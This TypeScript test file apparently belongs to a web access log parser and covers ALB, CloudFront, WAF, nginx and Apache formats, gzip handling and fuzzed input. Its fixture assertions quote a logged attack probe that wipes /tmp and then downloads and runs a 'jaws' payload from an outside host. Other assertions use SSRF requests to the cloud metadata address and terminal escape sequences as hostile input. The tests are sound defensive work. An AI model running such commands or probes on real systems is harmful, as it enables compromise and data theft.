import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { Readable } from 'node:stream';
import { describe, it } from 'node:test';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { OffboxError } from '../errors.js';
import type { LogObject } from '../sources/log-object.js';
import { benignCorpus } from './benign-corpus.test-helpers.js';
import { splitLines } from './lines.js';
import { readWebLog, sniffLine, type WebLogItem } from './read.js';
import type { WebRequest } from './request.js';
import { splitRequestLine, splitTarget, tokenizeQuoted } from './tokenize.js';

const FIXTURES = new URL('../../fixtures/weblogs/', import.meta.url).pathname;

function bytesObject(name: string, bytes: Buffer, chunk = 0): LogObject {
  const chunks: Buffer[] = [];
  if (chunk > 0) for (let i = 0; i < bytes.length; i += chunk) chunks.push(bytes.subarray(i, i + chunk));
  else chunks.push(bytes);
  return { name, size: bytes.length, open: () => Promise.resolve(Readable.from(chunks)) };
}

async function readAll(object: LogObject, options = {}): Promise<WebLogItem[]> {
  const out: WebLogItem[] = [];
  for await (const item of readWebLog(object, options)) out.push(item);
  return out;
}

async function readFixture(rel: string): Promise<{ requests: WebRequest[]; items: WebLogItem[] }> {
  const items = await readAll(bytesObject(rel, readFileSync(`${FIXTURES}${rel}`)));
  return { items, requests: items.flatMap((i) => (i.kind === 'request' ? [i.request] : [])) };
}

function kinds(items: WebLogItem[]): Record<string, number> {
  const out: Record<string, number> = {};
  for (const item of items) {
    const k = item.kind === 'skipped' ? `skipped:${item.what}` : item.kind;
    out[k] = (out[k] ?? 0) + 1;
  }
  return out;
}

describe('ALB access logs (real sample lines)', () => {
  it('reads every field of the VRL test lines, IPv6 clients and targets, trailing fields and the 400 forms', async () => {
    const { requests, items } = await readFixture('aws-alb/vrl-parse_aws_alb_log-tests.log');
    assert.deepEqual(kinds(items), { request: 15 });
    const first = requests[0]!;
    assert.equal(first.format, 'alb');
    assert.equal(first.line, 1);
    assert.equal(first.time, '2018-07-02T22:23:00.186Z');
    assert.equal(first.clientIp, '192.168.131.39');
    assert.equal(first.targetAddress, '10.0.0.1:80');
    assert.equal(first.method, 'GET');
    assert.equal(first.url, 'http://www.example.com:80/');
    assert.equal(first.host, 'www.example.com');
    assert.equal(first.path, '/');
    assert.equal(first.userAgent, 'curl/7.46.0');
    assert.equal(first.status, 200);
    assert.equal(first.bytes, 366);
    assert.equal(first.bytesIncludeHeaders, true);
    assert.equal(first.requestId, 'Root=1-58337262-36d228ad5d99923122bbe354');
    assert.equal(first.action, 'forward');

    const v6 = requests[10]!;
    assert.equal(v6.clientIp, '2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc');
    assert.equal(v6.targetAddress, 'fd6d:6bbc:c529:6::face:ed83:f46:80');
    assert.equal(v6.method, 'POST');
    assert.equal(v6.path, '/api/deposits/transactions:search');
    assert.equal(v6.query, 'detailsLevel=FULL&offset=0&limit=50');
    assert.equal(v6.action, 'waf,forward');

    const unparseable = requests[8]!;
    assert.equal(unparseable.method, '-');
    assert.equal(unparseable.status, 400);
    assert.equal(unparseable.host, 'awseb-awseb-1kgu6fbag3fad-640112591.us-east-1.elb.amazonaws.com');
  });

  it('skips NLB TLS and ALB connection-log lines of a mixed prefix; keeps spaces in the query; reads 2025 lines', async () => {
    const { requests, items } = await readFixture('aws-alb/elastic-integrations-test-alb.log');
    assert.deepEqual(kinds(items), { request: 3, 'skipped:nlb': 4, 'skipped:alb-connection': 3 });
    const probe = requests[1]!;
    assert.equal(probe.host, '127.0.0.1');
    assert.equal(probe.path, '/shell');
    assert.equal(probe.query, 'cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws');
    assert.equal(probe.userAgent, 'Hello, world');
    assert.equal(probe.status, 301);
    assert.equal(requests[2]!.line, 10);
    assert.equal(requests[2]!.method, '-');
  });

  it('reads the Beats samples, including `"- - -"` and a quote run into the next field (`"-"1`)', async () => {
    const example = await readFixture('aws-alb/beats-example-alb-http.log');
    assert.deepEqual(kinds(example.items), { request: 9 });
    assert.equal(example.requests[4]!.clientIp, '10.0.0.140');
    assert.equal(example.requests[8]!.url, '');
    assert.equal(example.requests[8]!.status, 400);
    const app = await readFixture('aws-alb/beats-application-lb-http.log');
    assert.equal(app.requests.length, 10);
    assert.equal(app.requests[0]!.status, 460);
    assert.equal(app.requests[0]!.bytes, 0);
  });
});

describe('Classic ELB access logs', () => {
  it('reads HTTP, HTTPS and TCP listener lines', async () => {
    const http = await readFixture('aws-classic-elb/beats-elb-http.log');
    assert.equal(http.requests.length, 5);
    const r = http.requests[0]!;
    assert.equal(r.format, 'elb');
    assert.equal(r.time, '2019-10-14T12:00:20.694Z');
    assert.equal(r.clientIp, '175.16.199.1');
    assert.equal(r.targetAddress, '10.0.1.185:80');
    assert.equal(r.host, '18.194.223.56');
    assert.equal(r.status, 200);
    assert.equal(r.bytes, 612);
    const tcp = await readFixture('aws-classic-elb/beats-example-https-tcp.log');
    assert.equal(tcp.requests.length, 3);
    assert.equal(tcp.requests[1]!.method, '-');
    assert.equal(tcp.requests[1]!.url, '');
    assert.equal(tcp.requests[2]!.targetAddress, '');
  });
});

describe('CloudFront standard logs', () => {
  it('follows the #Fields header, decodes the user agent, reads IPv6, 000 and truncated lines', async () => {
    const { requests, items } = await readFixture('aws-cloudfront/elastic-integrations-test-cloudfront.log');
    assert.deepEqual(kinds(items), { request: 12, 'skipped:cloudfront-header': 2 });
    const r = requests[0]!;
    assert.equal(r.format, 'cloudfront');
    assert.equal(r.time, '2019-12-04T21:02:31.000Z');
    assert.equal(r.clientIp, '89.160.20.112');
    assert.equal(r.path, '/index.html');
    assert.equal(r.host, 'd111111abcdef8.cloudfront.net');
    assert.match(r.userAgent, /^Mozilla\/5\.0 \(Windows NT 10\.0; Win64; x64\)/);
    assert.equal(r.bytes, 78);
    assert.equal(r.requestId, 'SOX4xwn4XV6Q4rgb7XiVGOHms_BGlTAC4KyHmureZmBNrjGdRLiNIQ==');
    assert.equal(requests[1]!.clientIp, '2a02:cf40:add:4002:91f2:a9b2:e09a:6fc6');
    assert.equal(requests[3]!.host, 'www.example.com');
    assert.equal(requests[3]!.referer, 'http://www.example.com/');
    assert.equal(requests[6]!.method, 'POST');
    assert.equal(requests[6]!.query, 'source=global');
    assert.equal(requests[7]!.status, 0);
    assert.deepEqual(requests[9]!.forwardedFor, ['81.2.69.142', '216.160.83.56']);
    const truncated = requests[11]!;
    assert.equal(truncated.path, '/en(test)');
    assert.equal(truncated.status, 404);
  });

  it('reads headerless lines with the default field order', async () => {
    const text = readFileSync(`${FIXTURES}aws-cloudfront/elastic-integrations-test-cloudfront.log`, 'utf8')
      .split('\n')
      .filter((l) => !l.startsWith('#'))
      .join('\n');
    const items = await readAll(bytesObject('cf.log', Buffer.from(text)));
    assert.equal(items.filter((i) => i.kind === 'request').length, 12);
  });
});

describe('AWS WAF logs', () => {
  it('reads URI, args, headers, Host, action and matched rules', async () => {
    const { requests } = await readFixture('aws-waf/elastic-integrations-test-waf.log');
    assert.equal(requests.length, 4);
    const r = requests[0]!;
    assert.equal(r.format, 'waf');
    assert.equal(r.time, '2019-12-13T23:40:12.771Z');
    assert.equal(r.clientIp, '89.160.20.156');
    assert.equal(r.host, 'localhost');
    assert.equal(r.path, '/foo');
    assert.equal(r.userAgent, 'curl/7.61.1');
    assert.equal(r.action, 'BLOCK');
    assert.equal(r.status, 403);
    assert.deepEqual(r.wafRules, ['STMTest_SQLi_XSS', 'value']);
    assert.equal(r.headers.length, 4);
    assert.deepEqual(requests[2]!.wafRules, ['RG-Reference', 'RuleA-XSS', 'RuleB-SQLi', 'value']);
    assert.equal(requests[3]!.method, 'POST');
  });
});

describe('nginx and Apache combined logs', () => {
  it('X-Forwarded-For chains (plain, quoted, IPv6) and the empty request', async () => {
    const { requests } = await readFixture('nginx/beats-nginx-access-test.log');
    assert.equal(requests.length, 7);
    assert.equal(requests[0]!.clientIp, '10.0.0.2');
    assert.deepEqual(requests[0]!.forwardedFor, ['10.0.0.2', '10.0.0.1', '127.0.0.1']);
    assert.equal(requests[0]!.time, '2016-12-07T10:05:07.000Z');
    assert.equal(requests[4]!.clientIp, '10.5.102.222');
    assert.equal(requests[4]!.query, 'q=100');
    assert.equal(requests[5]!.clientIp, '2a03:0:10ff:f00f::8000');
    assert.equal(requests[6]!.status, 400);
    assert.equal(requests[6]!.method, '');
  });

  it('a vhost with a comma (a parser-confusion Host) is a vhost, not an X-Forwarded-For chain', async () => {
    const text =
      'user,x@169.254.169.254:80 203.0.113.9 - - [01/May/2024:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "x"\n' +
      '203.0.113.9, 10.0.0.2 - - [01/May/2024:10:00:01 +0000] "GET / HTTP/1.1" 200 1 "-" "x"\n';
    const items = await readAll(bytesObject('vhost-comma.log', Buffer.from(text)));
    const requests = items.flatMap((i) => (i.kind === 'request' ? [i.request] : []));
    assert.equal(requests.length, 2);
    assert.equal(requests[0]!.clientIp, '203.0.113.9');
    assert.equal(requests[0]!.host, 'user,x@169.254.169.254');
    assert.deepEqual(requests[1]!.forwardedFor, ['203.0.113.9', '10.0.0.2']);
  });

  it('referers, a vhost prefix, and Apache variants (::1, "-" 408, hostname clients)', async () => {
    const nginx = await readFixture('nginx/beats-nginx-access.log');
    assert.equal(nginx.requests.length, 13);
    assert.equal(nginx.requests[1]!.referer, 'http://localhost:8080/');
    assert.equal(nginx.requests[12]!.host, 'lessons.example.com');
    assert.equal(nginx.requests[12]!.clientIp, '192.168.0.1');
    assert.equal(nginx.requests[12]!.status, 206);
    const apache = await readFixture('apache/beats-apache-access-test.log');
    assert.equal(apache.requests.length, 7);
    assert.equal(apache.requests[0]!.clientIp, '::1');
    assert.equal(apache.requests[0]!.userAgent, '');
    assert.equal(apache.requests[2]!.status, 408);
    assert.equal(apache.requests[4]!.clientIp, 'monitoring-server');
    assert.equal(apache.requests[6]!.host, 'vhost1.domaine.fr');
  });

  it('absolute-form and CONNECT requests are proxy requests with their own host', async () => {
    const text =
      '203.0.113.9 - - [01/May/2024:10:00:00 +0000] "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1" 200 1400 "-" "curl/8"\n' +
      '203.0.113.9 - - [01/May/2024:10:00:01 +0000] "CONNECT 169.254.169.254:80 HTTP/1.1" 400 0 "-" "curl/8"\n' +
      'app.example.com 203.0.113.9 - - [01/May/2024:10:00:02 -0130] "GET /a\\"b HTTP/1.1" 200 1 "-" "x"\n';
    const items = await readAll(bytesObject('proxy.log', Buffer.from(text)));
    const [abs, connect, escaped] = items.map((i) => (i.kind === 'request' ? i.request : undefined));
    assert.equal(abs!.absoluteForm, true);
    assert.equal(abs!.host, '169.254.169.254');
    assert.equal(abs!.path, '/latest/meta-data/');
    assert.equal(connect!.absoluteForm, true);
    assert.equal(connect!.host, '169.254.169.254');
    assert.equal(escaped!.path, '/a"b');
    assert.equal(escaped!.time, '2024-05-01T11:30:02.000Z');
  });
});

describe('hostile, truncated and malformed input', () => {
  it('terminal escapes in a line are data: warnings never quote the line', async () => {
    const evil = '\x1b]0;pwned\x07\x1b[2J';
    const text =
      `203.0.113.9 - - [01/May/2024:10:00:00 +0000] "GET /${evil} HTTP/1.1" 200 1 "-" "${evil}"\n` +
      `http 2024-05-01T10:00:00Z ${evil} broken\n` +
      `${evil}\n`;
    const items = await readAll(bytesObject('evil.log', Buffer.from(text)));
    assert.equal(items[0]!.kind, 'request');
    for (const item of items.slice(1)) {
      assert.equal(item.kind, 'bad');
      assert.ok(item.kind === 'bad' && !item.reason.includes('\x1b'));
    }
  });

  it('a huge line is reported with its size and skipped without holding it whole', async () => {
    const good = '203.0.113.9 - - [01/May/2024:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "x"';
    const huge = `203.0.113.9 - - [01/May/2024:10:00:00 +0000] "GET /${'A'.repeat(5 * 1024 * 1024)} HTTP/1.1" 200 1 "-" "x"`;
    const items = await readAll(bytesObject('huge.log', Buffer.from(`${good}\n${huge}\n${good}\n`), 64 * 1024));
    assert.deepEqual(
      items.map((i) => i.kind),
      ['request', 'bad', 'request'],
    );
    assert.ok(items[1]!.kind === 'bad' && /longer than the 64 KiB limit/.test(items[1]!.reason));
    assert.equal(items[2]!.kind === 'request' && items[2]!.request.line, 3);
  });

  it('random bytes never crash the reader: every line is a request, a bad line or skipped', async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 4096 }), fc.integer({ min: 1, max: 64 }), async (bytes, chunk) => {
        const items = await readAll(bytesObject('random.bin', Buffer.from(bytes), chunk), { maxLineBytes: 512 });
        for (const item of items) assert.ok(['request', 'bad', 'skipped', 'not-a-web-log'].includes(item.kind));
      }),
      { numRuns: 300 },
    );
  });

  it('mutated real lines never crash a parser', async () => {
    const lines = [
      ...readFileSync(`${FIXTURES}aws-alb/vrl-parse_aws_alb_log-tests.log`, 'utf8').split('\n'),
      ...readFileSync(`${FIXTURES}nginx/beats-nginx-access.log`, 'utf8').split('\n'),
      ...readFileSync(`${FIXTURES}aws-waf/elastic-integrations-test-waf.log`, 'utf8').split('\n'),
    ].filter((l) => l !== '');
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...lines),
        fc.nat(),
        fc.nat(),
        fc.string({ maxLength: 8 }),
        async (line, at, cut, insert) => {
          const i = at % (line.length + 1);
          const mutated = `${line.slice(0, i)}${insert}${line.slice(i + (cut % 5))}`;
          const items = await readAll(bytesObject('m.log', Buffer.from(mutated)));
          assert.ok(items.length >= 1);
        },
      ),
      { numRuns: 500 },
    );
  });

  it('a truncated gzip file yields the lines before the damage, then an OffboxError', async () => {
    const text = Buffer.from(benignCorpus(500)[0]!.text);
    const gz = gzipSync(text);
    const cut = gz.subarray(0, Math.floor(gz.length * 0.5));
    const seen: WebLogItem[] = [];
    await assert.rejects(
      async () => {
        for await (const item of readWebLog(bytesObject('cut.log.gz', cut))) seen.push(item);
      },
      (err: unknown) => err instanceof OffboxError && /truncated or corrupt/.test(err.message),
    );
    const read = seen.filter((i) => i.kind === 'request').length;
    assert.ok(read >= 100 && read < 500, `${read} requests before the damage`);
  });

  it('gzip is recognised by its magic bytes, whatever the name', async () => {
    const text = readFileSync(`${FIXTURES}aws-waf/elastic-integrations-test-waf.log`);
    const items = await readAll(bytesObject('waf.json', gzipSync(text), 7));
    assert.equal(items.filter((i) => i.kind === 'request').length, 4);
  });

  it('a file that is not a web log is one warning, not one per line', async () => {
    const cloudTrail = `${'{"eventVersion":"1.08","eventName":"GetCallerIdentity"}\n'.repeat(200)}`;
    const items = await readAll(bytesObject('trail.json', Buffer.from(cloudTrail)));
    assert.deepEqual(
      items.map((i) => i.kind),
      ['not-a-web-log'],
    );
    const short = await readAll(bytesObject('notes.txt', Buffer.from('hello\nworld\n')));
    assert.deepEqual(
      short.map((i) => i.kind),
      ['not-a-web-log'],
    );
  });
});

describe('building blocks', () => {
  it('splitLines: CRLF, lines across chunks, no final newline, overlong lines across chunks', async () => {
    const chunks = ['a\r\nbb', 'b\nc', 'ccccccccccc', 'cc\nd'].map((s) => Buffer.from(s));
    const out = [];
    for await (const l of splitLines(Readable.from(chunks), 8)) out.push(l);
    assert.deepEqual(out, [
      { kind: 'line', line: 1, text: 'a' },
      { kind: 'line', line: 2, text: 'bbb' },
      { kind: 'too-long', line: 3, bytes: 14 },
      { kind: 'line', line: 4, text: 'd' },
    ]);
  });

  it('tokenizeQuoted: quotes, escapes, quotes run into the next field, unterminated quotes', () => {
    assert.deepEqual(tokenizeQuoted('a "b c" "d\\"e" "-"1 f'), ['a', 'b c', 'd"e', '-', '1', 'f']);
    assert.equal(tokenizeQuoted('a "b'), undefined);
  });

  it('splitRequestLine and splitTarget', () => {
    assert.deepEqual(splitRequestLine('GET http://h:80/p?q=a b HTTP/1.1'), {
      method: 'GET',
      target: 'http://h:80/p?q=a b',
      protocol: 'HTTP/1.1',
    });
    assert.deepEqual(splitRequestLine('- http://host:80- -'), {
      method: '-',
      target: 'http://host:80-',
      protocol: '-',
    });
    const t = splitTarget('http://user@[::1]:8080/p/q?x=1#frag');
    assert.equal(t.host, '[::1]');
    assert.equal(t.port, '8080');
    assert.equal(t.path, '/p/q');
    assert.equal(t.query, 'x=1');
    assert.equal(t.fragment, 'frag');
  });

  it('sniffLine tells the formats apart', () => {
    assert.equal(sniffLine('h2 2018-07-02T22:23:00.186641Z app/x/y 1.2.3.4:1 - -1 -1 -1 400 - 0 0 "- - -"'), 'alb');
    assert.equal(sniffLine('tls 2.0 2018-12-20T02:59:40 net/x/y'), 'nlb');
    assert.equal(sniffLine('2024-10-04T17:05:15.514108Z 192.168.131.39 36280 443 TLSv1.2'), 'alb-connection');
    assert.equal(sniffLine('2015-05-13T23:39:43.945958Z my-lb 1.2.3.4:2817 - -1'), 'elb');
    assert.equal(sniffLine('2019-12-04\t21:02:31\tLAX1'), 'cloudfront');
    assert.equal(sniffLine('{"httpRequest":{}}'), 'waf');
    assert.equal(sniffLine('::1 - - [26/Dec/2016:16:16:29 +0200] "GET / HTTP/1.1" 404 209'), 'combined');
    assert.equal(sniffLine('#Fields: date time'), 'cloudfront-header');
    assert.equal(sniffLine('garbage'), 'unknown');
  });
});
